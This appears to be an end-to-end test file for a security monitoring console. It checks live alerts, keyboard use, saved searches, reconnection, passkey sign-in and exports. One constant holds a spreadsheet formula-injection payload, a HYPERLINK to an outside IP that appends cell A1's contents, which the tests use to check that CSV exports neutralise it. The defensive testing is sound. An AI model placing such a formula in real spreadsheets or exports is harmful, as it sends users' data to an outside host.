import { readFile } from 'node:fs/promises';
import { parse } from 'csv-parse/sync';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { closeBrowser, openBrowser, rowNumbers } from '../../dashboards/console/e2e/desk.ts';
import { approach, type ConsoleDesk, signIn, sitDownAs, stepUp } from '../support/console-desk.ts';
import { leaks, type Shift, startShift } from '../support/shift.ts';
import { until } from '../support/until.ts';

/** What a spreadsheet would run. */
const formula = '=HYPERLINK("http://192.0.2.1/?"&A1,"north")';
const slow = { timeout: 60_000 };
/** Whole browsers and a whole installation: on a busy machine they take their time. */
const patienceMs = 300_000;
let shift: Shift;

beforeAll(async () => {
  await openBrowser();
  shift = await startShift(formula);
  await shift.post(leaks('pump-1'), leaks('pump-2'), leaks('pump-3'));
  await shift.alerts(3);
}, patienceMs);
afterAll(async () => {
  await closeBrowser();
  await shift?.end();
});

/** Moves the focus by Tab until it is on what is called so, as somebody without a mouse does. */
async function tabTo(page: Page, name: string): Promise<void> {
  for (let presses = 0; presses < 120; presses++) {
    await page.keyboard.press('Tab');
    if ((await page.locator(':focus').textContent()) === name) return;
  }
  throw new Error(`${name} is not reached by Tab`);
}

test(
  'an alert arrives live without moving the row under the pointer, and is acknowledged by key',
  async () => {
    await using desk = await sitDownAs(shift.ada, shift.installation, 'alerts?sort=newest');
    const { page } = desk;
    const row = page.locator('tr[data-number]').nth(1);
    await row.hover();
    const [before, place] = [await rowNumbers(page), await row.boundingBox()];
    expect(before).toHaveLength(3);
    await shift.post(leaks('pump-4'));
    await page.getByRole('button', { name: '1 new' }).waitFor();
    expect(await rowNumbers(page)).toEqual(before);
    expect(await row.boundingBox()).toEqual(place);

    await page.keyboard.press('n');
    await page.locator('tr[data-number="4"]').waitFor();
    await page.locator('tr[data-here="true"][data-number="4"]').waitFor();
    await page.keyboard.press('a');
    await page.locator('tr[data-number="4"]').getByText('acknowledged').waitFor();
    const acknowledged = (await shift.alerts(4)).find(({ number }) => number === 4);
    expect(acknowledged).toMatchObject({ device: 'pump-4', state: 'acknowledged', acknowledgedBy: 'ada' });
    expect([desk.loads, desk.mishaps]).toEqual([0, []]);
  },
  patienceMs,
);

test(
  'the device of an alert is opened by keyboard, and a time chosen by brushing its chart',
  async () => {
    await using desk = await sitDownAs(shift.ada, shift.installation, 'alerts');
    const { page } = desk;
    await page.locator('tr[data-number]').first().waitFor();
    await page.keyboard.press('j');
    await page.keyboard.press('Enter');
    const sheet = page.getByRole('article', { name: /^Alert \d/ });
    await sheet.waitFor();
    const device =
      (await sheet
        .getByRole('link', { name: /^pump-\d$/ })
        .first()
        .textContent()) ?? '';
    await tabTo(page, device);
    await page.keyboard.press('Enter');
    await page.getByRole('article', { name: `Device ${device}` }).waitFor();

    const plot = page.getByTestId('plot');
    await plot.locator('canvas').waitFor();
    const box = await plot.boundingBox();
    if (box === null) throw new Error('no chart');
    await page.mouse.move(box.x + box.width * 0.5, box.y + 60);
    await page.mouse.down();
    await page.mouse.move(box.x + box.width * 0.8, box.y + 60, { steps: 6 });
    await page.mouse.up();
    await page.waitForURL(/from=20\d\d-.*to=20\d\d-/);
    const params = new URL(page.url()).searchParams;
    const [from, to] = [Date.parse(params.get('from') ?? ''), Date.parse(params.get('to') ?? '')];
    expect(to - from).toBeGreaterThan(0);
    await plot.locator('canvas').waitFor();
    expect(desk.mishaps).toEqual([]);
  },
  patienceMs,
);

test(
  'a search is typed, saved for everybody, and followed live',
  async () => {
    await shift.installation.settled();
    await using desk = await sitDownAs(shift.ada, shift.installation, 'search');
    const { page } = desk;
    await page.getByRole('heading', { name: 'Search' }).waitFor();
    await page.keyboard.press('/');
    await page.keyboard.type('device:pump-2');
    await page.keyboard.press('Enter');
    await page.waitForURL(/q=device%3Apump-2/);
    const events = page.getByRole('table', { name: 'Events' });
    await events.getByRole('button', { name: 'message-published' }).first().waitFor();
    await expect.poll(() => events.getByRole('button', { name: 'pump-1' }).count(), slow).toBe(0);
    await page.keyboard.press('Control+k');
    await page.keyboard.type('save this');
    await page.keyboard.press('Enter');
    await page.getByLabel('Name, for everybody').fill('What pump-2 says');
    await page.keyboard.press('Enter');
    await page.getByText('Saved as').waitFor();

    await using other = await sitDownAs(shift.grace, shift.installation, 'search');
    await other.page.getByRole('button', { name: /^Views 1/ }).click();
    await other.page.getByRole('dialog', { name: 'Saved views' }).getByText('What pump-2 says').click();
    await other.page.waitForURL(/q=device%3Apump-2/);

    await tabTo(page, 'CSV');
    await page.keyboard.press('f');
    await page.getByText('following, 0 so far').waitFor();
    let sent = 0;
    // A tail begins with what comes after it was opened: asked again until one is seen.
    await until(
      async () => {
        await shift.post({ kind: 'message-published', device: 'pump-2', sequence: ++sent });
        return (await events.getByRole('row').count()) > 1;
      },
      60_000,
      () => `nothing of ${sent} was followed`,
      1_000,
    );
    await shift.post({ kind: 'message-published', device: 'pump-3', sequence: 1 });
    await page.getByText(/following, [1-9]\d* so far/).waitFor();
    expect(await events.getByRole('button', { name: 'pump-3' }).count()).toBe(0);
    expect([desk.mishaps, other.mishaps]).toEqual([[], []]);
  },
  patienceMs,
);

test(
  'a connection that is lost is said to be, and what happened meanwhile is there once it is back',
  async () => {
    await using desk = await sitDownAs(shift.ada, shift.installation, 'alerts?sort=newest');
    const { page } = desk;
    await page.locator('tr[data-number]').first().waitFor();
    const lost = page.getByText(/Connection lost at \d\d:\d\d/);
    await page.context().setOffline(true);
    await lost.waitFor();
    const before = await rowNumbers(page);
    const number = before.length + 1;
    await shift.post(leaks('pump-5'));
    await shift.alerts(number);
    expect(await rowNumbers(page)).toEqual(before);
    await page.context().setOffline(false);
    await lost.waitFor({ state: 'detached' });
    await page.getByRole('button', { name: '1 new' }).waitFor();

    // The other end goes away as well as the network does.
    await Promise.all([lost.waitFor(), shift.installation.kill('web')]);
    await lost.waitFor({ state: 'detached' });
    await page.keyboard.press('n');
    await page.locator(`tr[data-number="${number}"]`).waitFor();
    expect([desk.loads, desk.mishaps]).toEqual([0, []]);
  },
  patienceMs,
);

test(
  'alerts and events are exported from their pages: CSV in which nothing runs, NDJSON, and OCSF',
  async () => {
    await shift.installation.settled();
    await using desk = await sitDownAs(shift.grace, shift.installation, 'alerts?state=any');
    const { page } = desk;
    await page.getByRole('button', { name: 'Export' }).click();
    await page.getByRole('dialog', { name: 'Export these alerts' }).waitFor();
    const shown = await page.locator('tr[data-number]').count();

    const [csvName, csv] = await saved(desk, 'CSV');
    expect(csvName).toBe('alerts.csv');
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(shown);
    expect(new Set(rows.map(({ site }) => site))).toEqual(new Set([`'${formula}`]));
    const [, ndjson] = await saved(desk, 'NDJSON');
    const whole = linesOf(ndjson);
    expect(whole.map(({ number }) => String(number))).toEqual(rows.map(({ number }) => number));
    expect(whole[0]).toMatchObject({ site: formula, tenant: 'acme' });
    const [, ocsf] = await saved(desk, 'OCSF');
    const found = linesOf(ocsf);
    expect(found).toHaveLength(shown);
    for (const one of found)
      expect(one).toMatchObject({
        ...{ category_uid: 2, class_uid: 2004, metadata: { version: '1.4.0', tenant_uid: 'acme' } },
        finding_info: { analytic: { name: 'secret-in-log', uid: 'D26' } },
      });

    await page.goto(`${desk.address}/acme/search?q=device%3Apump-1`);
    await page.getByRole('table', { name: 'Events' }).waitFor();
    const [[, eventsCsv], [, eventsNdjson]] = [await saved(desk, 'CSV'), await saved(desk, 'NDJSON')];
    const events = linesOf(eventsNdjson);
    expect(events.length).toBeGreaterThan(0);
    expect(parse(eventsCsv, { columns: true })).toHaveLength(events.length);
    expect(new Set(events.map(({ device, claimedDevice }) => device || claimedDevice))).toEqual(new Set(['pump-1']));
    expect(JSON.stringify(events)).not.toContain('Xk29');
  },
  patienceMs,
);

test(
  'a passkey is made, signs in by itself, and shows that it is you where a password did',
  async () => {
    await using desk = await sitDownAs(shift.ada, shift.installation, 'settings');
    const { page, address } = desk;
    const browser = await page.context().newCDPSession(page);
    await browser.send('WebAuthn.enable');
    const options = {
      protocol: 'ctap2',
      transport: 'internal',
      hasResidentKey: true,
      hasUserVerification: true,
    } as const;
    await browser.send('WebAuthn.addVirtualAuthenticator', { options: { ...options, isUserVerified: true } });
    await page.getByLabel('Name for a new one').fill('this laptop');
    await page.getByRole('button', { name: 'Add a passkey' }).click();
    await stepUp(desk, shift.ada);
    await page.getByRole('region', { name: 'Passkeys' }).getByText('this laptop').waitFor();

    await page.context().clearCookies();
    await page.goto(`${address}/acme/settings`);
    await page.getByRole('button', { name: 'Use a passkey' }).click();
    await page.getByRole('heading', { level: 1, name: 'Settings' }).waitFor();

    await page.context().clearCookies();
    await page.goto(`${address}/acme/settings`);
    await signIn(desk, shift.ada);
    await page.getByRole('heading', { name: 'Second factor' }).waitFor();
    await page.getByRole('button', { name: 'Use a passkey' }).click();
    await page.getByRole('heading', { level: 1, name: 'Settings' }).waitFor();

    await page.getByRole('region', { name: 'Passkeys' }).getByRole('button', { name: 'Remove' }).click();
    const dialog = page.getByRole('dialog', { name: 'Show that it is you' });
    await dialog.getByRole('button', { name: 'Use a passkey' }).click();
    await page.getByText('A passkey signs you in without a password that could be stolen.').waitFor();

    await using other = await approach(shift.installation, 'settings');
    await signIn(other, shift.ada);
    await other.page.getByRole('heading', { level: 1, name: 'Settings' }).waitFor();
    expect([desk.mishaps, other.mishaps]).toEqual([[], []]);
  },
  patienceMs,
);

async function saved({ page }: ConsoleDesk, name: string): Promise<[name: string, text: string]> {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name, exact: true }).click(),
  ]);
  return [download.suggestedFilename(), await readFile(await download.path(), 'utf8')];
}

function linesOf(ndjson: string): Record<string, unknown>[] {
  return ndjson.split('\n').flatMap((line) => (line === '' ? [] : [JSON.parse(line) as Record<string, unknown>]));
}
